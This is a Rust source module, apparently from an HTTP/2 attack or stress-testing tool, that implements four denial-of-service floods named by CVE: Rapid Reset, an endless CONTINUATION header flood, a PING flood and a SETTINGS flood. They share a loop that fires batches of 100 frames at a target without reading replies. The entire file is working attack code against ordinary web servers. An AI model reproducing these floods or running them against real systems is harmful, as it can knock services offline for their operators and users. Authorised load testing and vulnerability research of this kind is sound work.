//! Floods of frames in HTTP/2 that cost the sender nothing, and the receiver something.

use std::io;

use bytes::Bytes;

use super::frames::{self, Kind, LARGEST_WINDOW};
use super::raw::Raw;
use super::{Aim, Intruder};

/// Frames that are sent by one call.
const AT_ONCE: usize = 100;

/// Requests that are taken back at once, so that they never count as open (CVE-2023-44487).
pub(super) async fn rapid_reset(aim: &Aim, intruder: Intruder) -> io::Result<()> {
    flood(aim, intruder, |raw| {
        let stream = raw.put_request();
        frames::put_reset(&mut raw.write, stream);
    })
    .await
}

/// A list of header fields without an end (CVE-2024-27316).
pub(super) async fn continuations(aim: &Aim, intruder: Intruder) -> io::Result<()> {
    let field: Bytes = frames::block(&[("x-more", "of the same")]);
    let mut is_open = false;
    flood(aim, intruder, move |raw| {
        let kind = if is_open { Kind::Continuation } else { Kind::Headers };
        let block = if is_open { &field } else { &raw.block };
        frames::put(&mut raw.write, kind, 0, 1, block);
        is_open = true;
    })
    .await
}

/// Pings, each of which wants an answer (CVE-2019-9512).
pub(super) async fn pings(aim: &Aim, intruder: Intruder) -> io::Result<()> {
    flood(aim, intruder, |raw| frames::put(&mut raw.write, Kind::Ping, 0, 0, b"01234567")).await
}

/// Settings, each of which wants an answer (CVE-2019-9515).
pub(super) async fn settings(aim: &Aim, intruder: Intruder) -> io::Result<()> {
    flood(aim, intruder, |raw| frames::put_settings(&mut raw.write, &[])).await
}

async fn flood(aim: &Aim, intruder: Intruder, mut put: impl FnMut(&mut Raw)) -> io::Result<()> {
    let mut raw = Raw::begin(aim, intruder, LARGEST_WINDOW, &aim.target.small).await?;
    while !raw.is_used_up() {
        for _ in 0..AT_ONCE {
            put(&mut raw);
        }
        raw.send_deaf().await?;
        aim.tally.sent(AT_ONCE as u64);
        // One that can always send leaves no time to the others of its thread.
        tokio::task::yield_now().await;
    }
    Ok(())
}
